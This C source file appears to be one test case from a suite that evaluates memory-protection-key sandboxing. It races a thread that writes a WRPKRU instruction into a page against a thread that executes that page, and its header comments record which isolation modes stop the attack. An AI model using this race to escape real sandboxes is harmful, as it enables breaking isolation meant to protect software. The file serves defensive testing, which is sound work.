/* One thread makes a page writable and writes WRPKRU, another makes it executable and runs it, over and over. */
/* none: succeeded */
/* pkey: SIGSEGV */
/* process: SIGSEGV */
#include "code.h"

static unsigned char *page;
static volatile int stop;

static void *writer(void *unused)
{
	while (!stop) {
		mprotect(page, PAGE, PROT_READ | PROT_WRITE);
		if (!sigsetjmp(landing, 1)) {
			memcpy(page + WRPKRU, OPEN + WRPKRU, 3);
			memcpy(page + WRPKRU, HARMLESS, 3);
		}
	}
	return unused;
}

static int attack(void)
{
	pthread_t thread;
	page = memory(PAGE, PROT_READ | PROT_WRITE);
	memcpy(page, OPEN, sizeof OPEN);
	expect_faults();
	pthread_create(&thread, 0, writer, 0);
	for (int i = 0; i < part(3000); i++) {
		mprotect(page, PAGE, PROT_READ | PROT_EXEC);
		if (!sigsetjmp(landing, 1)) {
			((code *)page)();
			if (loot() == 0)
				return 0;
		}
	}
	stop = 1;
	pthread_join(thread, 0);
	signal(SIGSEGV, SIG_DFL);
	return loot();
}
